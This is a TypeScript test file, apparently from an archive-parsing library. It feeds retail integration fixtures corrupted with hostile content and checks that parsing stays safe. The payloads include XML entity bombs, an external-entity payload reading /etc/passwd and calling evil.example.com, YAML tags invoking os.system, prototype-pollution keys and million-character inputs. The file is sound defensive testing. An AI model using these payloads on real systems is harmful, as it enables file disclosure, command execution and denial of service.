import { describe, expect, it } from 'vitest'
import { type Archive, type Failed, readArchives } from '../../src/index.js'
import { openWithZlib } from '../../src/node/zlib-source.js'
import { everyReport } from '../support/every-report.js'
import { changedFixture } from '../support/fixture.js'
import { type Content, tree } from '../support/zip.js'

const INTAKE = 'retail-dev/ORDER_INTAKE_01.00.0000'
const RETURNS = 'retail-dev/RETURNS_PROJECT'

/** The first file of a fixture whose name ends so. */
function named(fixture: string, end: string): string {
  const name = Object.keys(tree(fixture)).find((each) => each.endsWith(end))
  if (name === undefined) throw new Error(`${fixture} has no ${end}`)
  return name
}

const original = (fixture: string, name: string) => new TextDecoder().decode(tree(fixture)[name])

const BOMB = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">${Array.from(
  { length: 30 },
  (_, at) => `<!ENTITY ${String.fromCharCode(98 + (at % 25))}${at} "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">`,
).join('')}]>`
const EXTERNAL =
  '<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "https://evil.example.com/x"> %b;]>'

/** What becomes of a text of XML. The first tag of it is the root's. */
const XML: Readonly<Record<string, (text: string) => Content>> = {
  'an entity bomb': (text) => `${BOMB}${text.replace(/<\?xml[^>]*>/, '').replace(/>([A-Za-z]+)</, '>&b0;&c1;&d2;<')}`,
  'external entities': (text) => `${EXTERNAL}${text.replace(/<\?xml[^>]*>/, '').replace(/>([A-Za-z]+)</, '>&a;<')}`,
  '200,000 elements, one in the other': (text) => `${text}${'<a>'.repeat(200_000)}`,
  '200,000 elements, one in the other, closed, within the root': (text) =>
    text.replace(/<\/[^<>]+>\s*$/, (end) => `${'<a>'.repeat(200_000)}${'</a>'.repeat(200_000)}${end}`),
  '400,000 character references': (text) => text.replace(/>([A-Za-z]+)</, () => `>${'&#65;'.repeat(400_000)}<`),
  '400,000 ampersands': (text) => text.replace(/>([A-Za-z]+)</, () => `>${'&'.repeat(400_000)}<`),
  '200,000 attributes': (text) =>
    text.replace(
      /<([A-Za-z][\w:]*)>/,
      (_, name) => `<${name}${Array.from({ length: 200_000 }, (_, at) => ` a${at}="1"`).join('')}>`,
    ),
  'bad nesting': (text) => text.replace(/<\/([\w:]+)>(\s*)<\/([\w:]+)>/, '</$3>$2</$1>'),
  'no end': (text) => text.slice(0, text.length / 2),
  'an end alone': () => '</a></b></c>',
  'a comment without an end': (text) => text.replace('>', '><!--'),
  'CDATA without an end': (text) => text.replace(/>([A-Za-z]+)</, '><![CDATA[$1<'),
  NULs: (text) => text.replaceAll('e', '\u0000'),
  'NULs only': () => '\u0000'.repeat(1000),
  'UTF-16 that says it is UTF-8': (text) => new Uint8Array(Buffer.from(text, 'utf16le')),
  'Latin-1 that says it is UTF-8': (text) => new Uint8Array(Buffer.from(text.replaceAll('e', 'é'), 'latin1')),
  'an encoding that does not exist': (text) =>
    text.replace(/encoding\s*=\s*['"][^'"]*['"]/, 'encoding="EBCDIC-\u001b[31m"'),
  'half a byte-order mark': (text) => new Uint8Array([0xef, 0xbb, ...new TextEncoder().encode(text)]),
  nothing: () => '',
}

const XML_FILES = [
  'PROJECT-INF/project.xml',
  '.xsl',
  '.jca',
  '.dvm',
  'appinstances/RETAIL_REST_TRIGGER.xml',
  'PriceTools.xml',
  '.wsdl',
]

const JSON_TEXTS: Readonly<Record<string, (text: string) => Content>> = {
  'arrays nested 100,000 deep': () => '['.repeat(100_000),
  'arrays nested 100,000 deep, closed': () => '['.repeat(100_000) + ']'.repeat(100_000),
  'objects nested 100,000 deep': () => '{"a":'.repeat(100_000),
  'objects nested 100,000 deep, closed, within the text': (text) =>
    text.replace('{', () => `{"deep":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)},`),
  '__proto__ and constructor': (text) =>
    text.replace('{', () => '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},'),
  '100,000 keys': (text) =>
    text.replace('{', () => `{${Array.from({ length: 100_000 }, (_, at) => `"k${at}":1,`).join('')}`),
  'a string of a megabyte without an end': (text) => text.replace(/"[^"]*$/, () => `"${'\\u0041'.repeat(180_000)}`),
  'another kind': () => '[1,null,"x"]',
  'a number': () => '1e999',
  NULs: (text) => text.replaceAll('e', '\u0000'),
  nothing: () => '',
}

const JSON_FILES: readonly (readonly [string, string])[] = [
  [INTAKE, 'analysis.json'],
  [INTAKE, 'project_messages.json'],
  ['retail-dev/STOCK_REPORT_NIGHTLY_01.02.0000', 'stitch.json'],
  [RETURNS, 'info.json'],
  [RETURNS, 'eventtypes/ORDER_SHIPPED_1.json'],
  [RETURNS, 'content.json'],
]

const YAML: Readonly<Record<string, (text: string) => Content>> = {
  'an alias bomb': (text) =>
    `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 20 }, (_, at) => `${String.fromCharCode(98 + at)}: &${String.fromCharCode(98 + at)} [${`*${String.fromCharCode(97 + at)},`.repeat(9)}]\n`).join('')}${text}`,
  'an alias of itself': (text) => `a: &a\n  b: *a\n${text}`,
  tags: (text) => `x: !!js/function "function(){}"\ny: !!python/object/apply:os.system ["id"]\nz: !<tag:x> 1\n${text}`,
  'lists nested 100,000 deep': (text) => `${text}\nx: ${'['.repeat(100_000)}`,
  'maps nested 2,000 deep': (text) =>
    `${text}\n${Array.from({ length: 2000 }, (_, at) => `${' '.repeat(at)}a:\n`).join('')}`,
  __proto__: (text) => `__proto__:\n  polluted: true\n${text}`,
  NULs: (text) => text.replaceAll('e', '\u0000'),
  tabs: (text) => text.replaceAll('  ', '\t'),
}

const PROPERTIES: Readonly<Record<string, (text: string) => Content>> = {
  'a megabyte without an end': (text) => `${text}x=${'a'.repeat(1_000_000)}`,
  'a megabyte of continued lines': (text) => `${text}x=${'a\\\n'.repeat(300_000)}`,
  'a megabyte of white space': (text) => `${' '.repeat(500_000)}\n${text}=${'\t'.repeat(500_000)}`,
  'a megabyte of backslashes': (text) => `${text}x=${'\\'.repeat(1_000_001)}`,
  'broken escapes': (text) => `${text}x=\\u00\\uZZZZ\\u\n`,
  __proto__: (text) => `__proto__=x\nconstructor=y\n${text}`,
}

/** An expression in place of the one in the file. */
const EXPRESSIONS: readonly string[] = [
  '(',
  '"',
  "'",
  '$',
  '[',
  '{',
  'a/',
  'a or ',
  "concat('a',",
  '(:',
  '-',
  '1.',
  '\u00e9',
  '\\n',
  'dvm:lookupValue(',
  'a[',
  '* ',
  '/*',
  '<',
]

const expressionOf = (text: string, piece: string) =>
  text.replace(
    /^((?:XpathExpression|TextExpression)\s*[=:]).*$/gm,
    (_, key) => `${key}${piece.repeat(Math.ceil(1_000_000 / piece.length))}`,
  )

interface Case {
  readonly title: string
  readonly fixture: string
  readonly changes: Readonly<Record<string, Content>>
}

const all: readonly Case[] = [
  ...XML_FILES.flatMap((end) => Object.entries(XML).map(([title, change]) => changing(INTAKE, end, title, change))),
  ...JSON_FILES.flatMap(([fixture, end]) =>
    Object.entries(JSON_TEXTS).map(([title, change]) => changing(fixture, end, title, change)),
  ),
  ...Object.entries(YAML).map(([title, change]) => changing(RETURNS, 'project.yaml', title, change)),
  ...['ics_project_attributes.properties', 'expr.properties', 'keywords.properties', 'notification_body.data'].flatMap(
    (end) => Object.entries(PROPERTIES).map(([title, change]) => changing(INTAKE, end, title, change)),
  ),
  ...EXPRESSIONS.map((piece) =>
    changing(INTAKE, 'expr.properties', `a megabyte of ${JSON.stringify(piece)}`, (text) => expressionOf(text, piece)),
  ),
]

/** Not every file has what every change looks for. */
const cases = all.filter(({ fixture, changes }) =>
  Object.entries(changes).some(([name, content]) => content !== original(fixture, name)),
)

function changing(fixture: string, end: string, title: string, change: (text: string) => Content): Case {
  const name = named(fixture, end)
  return { title: `${end}: ${title}`, fixture, changes: { [name]: change(original(fixture, name)) } }
}

describe('a file that is hostile inside', () => {
  it.each(cases)('$title', async ({ fixture, changes }) => {
    const bytes = changedFixture(fixture, changes)
    const archives: Archive[] = []
    const failed: Failed[] = []
    archives.push(...(await readArchives(bytes, { name: 'a', open: openWithZlib })))
    const text = JSON.stringify(archives[0]?.diagnostics)
    expect(text).not.toContain('root:')
    expect(archives[0]?.integrations.length).toBeGreaterThan(0)
    await everyReport(archives, { failed })
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
  })

  it('is tried at all: nearly each change changes its file', () => {
    expect(cases.length).toBeGreaterThan(all.length * 0.9)
  })
})
